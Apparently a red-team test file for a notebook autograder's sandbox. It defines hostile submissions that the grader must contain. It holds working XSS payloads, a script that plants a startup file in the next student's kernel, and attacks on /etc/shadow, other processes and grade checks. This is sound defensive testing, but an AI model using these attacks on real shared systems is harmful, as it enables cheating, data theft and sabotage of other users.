display(HTML(f"<script>alert('{M}')</script><img src=x onerror=\"alert('{M}')\">"
             f"<a href=\"javascript:alert('{M}')\">click</a>"))
display(Javascript(f"alert('{M}')"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{M}')\">"
            f"<script>alert('{M}')</script></svg>"))
display(Markdown(f"[click](javascript:alert('{M}'))"))
display({"text/html": f"<script>alert('{M}')</script>",
         "text/plain": f"<script>alert('{M}')</script>"}, raw=True)
display({"image/png": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "text/plain": M}, raw=True,
        metadata={"image/png": {"width": f"1 onload=alert('{M}')"}})
display({"application/vnd.jupyter.widget-view+json": {"model_id": M}, "text/plain": M}, raw=True)
print(f"<script>alert('{M}')</script><img src=x onerror=alert('{M}')>")
'''
HTML_ERROR = r'''


class Injected(Exception):
    pass


Injected.__name__ = Injected.__qualname__ = f"<script>alert('{M}')</script>"
raise Injected(f"<img src=x onerror=\"alert('{M}')\">")
'''
PROBE_MESSAGE = r'''


def haversine_km(lat1, lon1, lat2, lon2):
    # The test shows this message: it must stay text.
    raise ValueError(f"<script>alert('{M}')</script><img src=x onerror=\"alert('{M}')\">")
'''

MARKDOWN_ANSWER = """Injected answer @MARK@

<script>alert('@MARK@')</script>

<img src="x" onerror="alert('@MARK@')">

<svg onload="alert('@MARK@')"></svg>

<a href="javascript:alert('@MARK@')">a link</a>

<iframe src="javascript:alert('@MARK@')"></iframe>

[click](javascript:alert('@MARK@'))

[entity](jav&#x61;script:alert('@MARK@'))

[spaced]( javascript:alert('@MARK@') )

<javascript:alert('@MARK@')>

![image](javascript:alert('@MARK@'))

[reference][evil]

[evil]: javascript:alert('@MARK@')

<math><mtext><table><mglyph><style><img src=x onerror="alert('@MARK@')">
"""

# --------------------------------------------------------------------------- the next student
PRECREATE = r'''
import os

M = "@MARK@"
here = os.getcwd()
scratch, mine = os.path.dirname(here), int(os.path.basename(here)[1:])
made = []
for k in range(mine + 1, mine + 3):  # the folders the next kernel of this worker will need
    try:
        os.mkdir(os.path.join(scratch, f"k{k}"))
        made.append(k)
    except OSError as exc:
        print("blocked:", k, type(exc).__name__)
print(M, "made", made)
'''

DEEP_TREE = r'''
import os

M = "@MARK@"
here = os.getcwd()
os.mkdir("deep")
os.chdir("deep")
for _ in range(3000):  # deeper than Python's recursion limit
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
print(M, "a folder 3000 levels deep")
'''

WATCHER = r'''
import subprocess
import sys

M, P = "@MARK@", "@PROC@"
# Run in the next kernel of this worker: say so in every cell, and break value_counts.
PAYLOAD = ("get_ipython().events.register('post_run_cell',\n"
           "                              lambda r: print('@MARK@ in your kernel'))\n"
           "import pandas\n"
           "pandas.Series.value_counts = lambda self, *a, **k: pandas.Series([0],\n"
           "                                                                 index=['@MARK@'])\n")
WATCH = """
import ctypes, os, struct, sys
payload = sys.argv[1]
scratch = os.path.dirname(os.getcwd())
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
libc.inotify_add_watch(fd, scratch.encode(), 0x100)
def plant(name):
    folder = os.path.join(scratch, name, '.home', '.ipython', 'profile_default', 'startup')
    try:
        os.makedirs(folder, exist_ok=True)
        tmp = os.path.join(folder, '.tmp-%d' % os.getpid())
        with open(tmp, 'w') as fh:
            fh.write(payload)
        os.replace(tmp, os.path.join(folder, '00-x.py'))
    except OSError:
        pass
while True:
    buf = os.read(fd, 65536)
    i = 0
    while i < len(buf):
        _wd, mask, _cookie, size = struct.unpack_from('iIII', buf, i)
        name = buf[i + 16:i + 16 + size].rstrip(b'\\0').decode()
        i += 16 + size
        if name.startswith('k') and mask & 0x40000000:
            plant(name)
"""
quiet = dict(start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
             stderr=subprocess.DEVNULL)
for _ in range(6):  # busy processes slow the grader down between two submissions
    subprocess.Popen([sys.executable, "-c", "while True: pass", P, M], **quiet)
for _ in range(3):  # watchers: plant a startup file in the next kernel's folder
    subprocess.Popen([sys.executable, "-c", WATCH, PAYLOAD, P, M], **quiet)
print(M, "watchers started")
'''


# --------------------------------------------------------------------------- the corpus
def _honest(section: str) -> list[Case]:
    tag = "sop" if section == SOP else "start"
    return [
        Case(f"correct-{tag}", section, "correct", must="full code marks"),
        Case(f"blank-{tag}", section, "blank", must="0"),
        Case(f"wrong-{tag}", section, "wrong", answers=dict(WRONG[section]),
             must="0 (a wrong quiz answer saved with answers.save)"),
    ]


def _h(student: str, section: str, tries: str, must: str, code: str = "", **kw) -> Case:
    answers_ = kw.pop("answers", None) or _attack(section, code)
    return Case(f"rt-{student}", section, "hostile", tries, must, answers=answers_, **kw)


_SCORE = "0: the tests run in the clean room on values handed over as plain data"
_LEAK = "0, and nothing it read reaches the autograded notebook or feedback"

HOSTILE = [
    # ---- 02_state_of_play
    _h("input-transformer", SOP, "an IPython input transformer turns later asserts and the "
       "grader's hand-over into `pass`", _SCORE, INPUT_TRANSFORMER),
    _h("settrace", SOP, "sys.settrace jumps over assert lines; sys.setprofile installed",
       _SCORE, SETTRACE),
    _h("numeric-subclass", SOP, "int, float and str subclasses whose comparisons always "
       "succeed, as answers and probe results", "0: a subclass crosses as 'not gradable'",
       answers=_attack(SOP, NUMERIC_SUBCLASSES + NUMERIC_SUBCLASSES_VALUES, values=False)),
    _h("series-subclass", SOP, "pandas Series and DataFrame subclasses equal to everything",
       "0: a subclass crosses as 'not gradable'",
       answers=_attack(SOP, SERIES_SUBCLASS + "\n\n" + wrong_values(SOP) + "\n\n"
                       + SERIES_SUBCLASS_VALUES, values=False)),
    _h("patch-data-load", SOP, "replaces trilateral.data.load with made-up data that agrees "
       "with its answers", "0: the clean room imports its own trilateral.data",
       answers=_attack(SOP, PATCH_DATA_LOAD, values=False)),
    _h("replace-builtins", SOP, "replaces isinstance, sorted, abs, round and AssertionError "
       "in builtins", _SCORE, REPLACE_BUILTINS),
    _h("replace-export", SOP, "replaces trilateral.grading.exports.export: claims 'passed' "
       "and smuggles builtins' names", "0: only plain data crosses; no verdict is taken "
       "from the kernel", REPLACE_EXPORT),
    _h("history-leak", SOP, "reads In, _ih, Out and the history, and prints every earlier "
       "cell (the grader's stubs included) from a pre-run hook", _LEAK, HISTORY_LEAK),
    _h("course-abs-path", SOP, "reads the course by absolute path (notebooks/, the guide "
       "with the quiz keys, gradebook.db, nbgrader_config.py, this repository) and runs "
       "the instructor's solutions", _LEAK + "; none of it is in the sandbox",
       answers=_attack(SOP, COURSE_ABS_PATH, values=False)),
    _h("proc-scan", SOP, "reads /proc/*/cmdline, environ, root, cwd and fd of every "
       "process it sees, and the host through /proc/1/root", "0; it sees only its own "
       "sandbox and no grader secret", PROC_SCAN),
    _h("vandal", SOP, "writes to gradebook.db, nbgrader_config.py, notebooks/, docs/, "
       "release/, others' submissions, the grader's HOME; chmods and renames",
       "0; every file outside the outputs is unchanged", VANDAL),
    _h("detached", SOP, "leaves a new-session process and a double-forked daemon ignoring "
       "SIGTERM/SIGHUP, writing to the course for 10 minutes",
       "0; no process with its marker outlives the batch, nothing written", DETACHED),
    _h("memory-procs", SOP, "6 processes of 450 MB each (2.7 GB together, each under the "
       "per-process cap)", "0; the whole-submission memory cap stops it",
       answers=_attack(SOP, MEMORY_PROCS), record=("memory", "kernel stopped"), quiet=True),
    _h("html-flood", SOP, "a 50 MB HTML output and 40 more of 1 MB", "0; outputs capped, "
       "the notebook and page stay small", HTML_FLOOD, flood=True),
    _h("sleep-past-deadline", SOP, "a pre-run hook sleeps 8.5 s before every cell (each "
       "under the cell limit) and leaves a process", "0, not graded: stopped at the "
       "submission deadline; its process dies with its worker", SLEEP_PAST_DEADLINE,
       record=("grading stopped after",), quiet=True),
    _h("kill-all", SOP, "kills every visible process, PID 1 and kill(-1, 9)",
       "0; only its own sandbox is hit", KILL_ALL),
    _h("symlink-course", SOP, "symbolic links in the submission to the source notebook, "
       "the guide, gradebook.db, nbgrader_config.py, another student's notebook and "
       "/etc/shadow; prints them and runs the instructor's solutions",
       "0: a submission with a link is refused before anything copies it, with the reason",
       answers=_attack(SOP, SYMLINK_READER, values=False), quiet=True,
       record=("symbolic link",),
       links={"leak-notebook.json": "@ROOT@/notebooks/02_state_of_play/state_of_play.ipynb",
              "leak-guide.md": "@ROOT@/docs/instructor-guide.md",
              "leak-gradebook.db": "@ROOT@/gradebook.db",
              "leak-config.py": "@ROOT@/nbgrader_config.py",
              "leak-other.json": "@ROOT@/submitted/rt-vandal/02_state_of_play/state_of_play.ipynb",
              "leak-shadow.txt": "/etc/shadow"}),
    _h("network", SOP, "TCP and UDP to the test's listener on 127.0.0.1, ::1 and the "
       "host's addresses, an abstract unix socket, DNS", "0; the listener receives nothing",
       NETWORK),
    _h("markdown-injection", SOP, "script tags, on* attributes, javascript: links (plain, "
       "entity-encoded, reference, autolink, image) in its markdown answer; HTML, JS, SVG, "
       "Markdown, widget and bad-image outputs; an exception named <script>",
       "0; no marker in an executable place of any page",
       answers=_attack(SOP, HTML_OUTPUTS + "\n\n" + wrong_values(SOP) + HTML_ERROR,
                       values=False, written=MARKDOWN_ANSWER)),
    # ---- 00_start_here
    _h("ast-transformer", START, "an AST transformer turns every later assert and raise "
       "into pass", _SCORE, AST_TRANSFORMER),
    _h("run-cell-hooks", START, "pre/post-run-cell hooks skip any cell that tests and "
       "clear errors", _SCORE, RUN_CELL_HOOKS),
    _h("custom-exc", START, "set_custom_exc swallows every exception", _SCORE, CUSTOM_EXC),
    _h("proxy-eq", START, "a proxy (not a subclass) equal to everything, claiming to be "
       "an int through __class__", "0: it crosses as 'not gradable'",
       answers=_attack(START, PROXY_EQ + PROXY_EQ_VALUES, values=False)),
    _h("patch-answers", START, "replaces trilateral.answers.check/require/entry and saves "
       "the right quiz answer while grading runs", "0: the clean room reads the answers.json "
       "handed in, before any student code ran", PATCH_ANSWERS),
    _h("meta-path", START, "an import hook on sys.meta_path serves forged "
       "trilateral.answers and exports modules", _SCORE, META_PATH),
    _h("forge-display", START, "displays forged export bundles in its own cell and, from a "
       "pre-run hook, first in each test's cell", "0: exports from its own cells are "
       "dropped; forged values decode to wrong or ungradable ones", FORGE_DISPLAY),
    _h("workdir-leak", START, "lists its folder and scratch, walks the file system for "
       "notebooks, gradebooks and guides and prints any of this course", _LEAK,
       WORKDIR_LEAK),
    _h("others-folders", START, "reads other students' submitted/, autograded/, feedback/ "
       "and the grader's HOME by absolute and relative paths", _LEAK, OTHERS_FOLDERS),
    _h("startup-files", START, "plants IPython startup files, a .pth, sitecustomize.py in "
       "its HOME, ~/.ipython, $IPYTHONDIR, /tmp, the grader's HOME and /root",
       "0; no later kernel runs them, the grader's HOME is unchanged", STARTUP_FILES),
    _h("fork-bomb", START, "forks up to 300 exec'd processes that fork forever",
       "0; the process cap holds it, nothing survives", FORK_BOMB, quiet=True),
    _h("print-flood", START, "100,000 printed lines, 5 MB lines through print, stderr, "
       "sys.__stdout__ and os.write(1/2)", "0; printing capped, the notebook stays small",
       PRINT_FLOOD, flood=True),
    _h("pipe-garbage", START, "writes garbage to every pipe and socket descriptor it has",
       "0; only its own kernel breaks", PIPE_GARBAGE, quiet=True),
    _h("os-exit", START, "os._exit(0) in its first answer", "0", OS_EXIT,
       record=("kernel stopped",), quiet=True),
    _h("swallow-interrupt", START, "ignores SIGINT and loops, swallowing KeyboardInterrupt",
       "0; stopped at the cell limit", SWALLOW_INTERRUPT,
       record=("did not stop when interrupted", "time limit"), quiet=True),
    _h("symlink-notebook", START, "hands in its notebook as a symbolic link to the "
       "instructor's source notebook", "0: refused, the link is not followed",
       answers={"start-ex1-solution": "pass"}, notebook_link=True, quiet=True,
       record=("symbolic link",)),
    _h("huge-file", START, "writes a 256 MB file in its folder and in /tmp, truncates a "
       "1 TB sparse file", "0; the 64 MB file cap stops each", HUGE_FILE),
    _h("disk-fill", START, "allocates 48 files just under the file cap (about 3 GB) in its "
       "folder", "0; it cannot write more than the whole-submission budget (it is refused "
       "space, or stopped by the watchdog)", DISK_FILL, quiet=True),
    _h("ctypes-segfault", START, "dereferences NULL through ctypes", "0", SEGFAULT,
       record=("kernel stopped",), quiet=True),
    _h("html-injection", START, "script tags, on* attributes and javascript: links in "
       "HTML/JS/SVG/Markdown outputs and its markdown answer; a probe raises with HTML in "
       "its message", "0; no marker in an executable place of any page",
       answers=_attack(START, HTML_OUTPUTS + "\n\n" + wrong_values(START) + PROBE_MESSAGE,
                       values=False, written=MARKDOWN_ANSWER)),
]

CASES = _honest(SOP) + _honest(START) + HOSTILE

# Attacks on the submission graded next by the same worker, each followed by its victim
# (a correct submission); graded with --jobs 1, in this (alphabetical) order.
CROSS = [
    Case("x1-watcher", START, "hostile", "leaves processes that plant an IPython startup "
         "file in the next kernel's folder the moment it is created",
         "the next student's kernel runs none of it", answers=_attack(START, WATCHER)),
    # A large data file handed in beside the notebook: copying it keeps the grader busy
    # long enough for the race above to be won every time, not most times.
    Case("x2-victim", START, "correct", must="full marks, untouched", ballast_mb=40),
    Case("x3-precreate", START, "hostile", "creates the scratch folders the next kernel of "
         "its worker will need", "the next student is graded as usual",
         answers=_attack(START, PRECREATE)),
    Case("x4-victim", START, "correct", must="full marks"),
    Case("x5-deeptree", START, "hostile", "leaves a folder 3000 levels deep for the "
         "sandbox's cleanup", "the next student is graded; the batch completes",
         answers=_attack(START, DEEP_TREE)),
    Case("x6-victim", START, "correct", must="full marks"),
]


# --------------------------------------------------------------------------- handing in
def quiz_key(source: Path) -> tuple[str, str]:
    """(question id, right option) of the section's graded quiz question."""
    (qid, expected), = answers.answer_key(source).items()
    return qid, expected if isinstance(expected, str) else expected[0]


def fill(text: str, case: Case, target: Target, source: Path) -> str:
    """``text`` with the placeholders of the module docs filled in."""
    _qid, key = quiz_key(source)
    values = {
        "@MARK@": target.marker(case.student), "@PROC@": target.proc_mark,
        "@ROOT@": target.root, "@HOME@": target.home, "@REPO@": target.repo,
        "@OUTSIDE@": target.outside, "@PORT@": str(target.port), "@UDP@": str(target.udp),
        "@UNIX@": target.unix, "@HOSTS@": repr(list(target.hosts)),
        "@SECTION@": case.section, "@KEY64@": base64.b64encode(key.encode()).decode(),
    }
    for placeholder, value in values.items():
        text = text.replace(placeholder, value)
    return text


def hand_in(root: Path, case: Case, target: Target) -> Path:
    """Write ``case``'s submission to ``submitted/<student>/<section>/``, as collect would."""
    name = SECTIONS[case.section]
    source = root / "notebooks" / case.section / name
    dest = root / "submitted" / case.student / case.section
    shutil.copytree(root / "release" / case.section, dest)
    if case.kind == "correct":
        shutil.copy2(source, dest / name)
        answers.write_key([source], dest)
    elif case.answers:
        nb = json.loads((dest / name).read_text(encoding="utf-8"))
        filled = {gid: fill(src, case, target, source) for gid, src in case.answers.items()}
        (dest / name).write_text(json.dumps(with_answers(nb, filled)), encoding="utf-8")
    if case.kind == "wrong":
        qid, key = quiz_key(source)
        options = [o.text for o in load_bank(dest / "questions.yaml")[qid].options]
        answers.save(qid, next(o for o in options if o != key), dest)
    if case.ballast_mb:
        row = "year,country,value,source\n" + "2019,KOR,1.0,survey\n" * 50_000
        (dest / "survey.csv").write_text(row * (case.ballast_mb * 2 ** 20 // len(row)),
                                         encoding="utf-8")
    for link, where in case.links.items():
        (dest / link).symlink_to(fill(where, case, target, source))
    if case.notebook_link:
        (dest / name).unlink()
        (dest / name).symlink_to(source)
    return dest
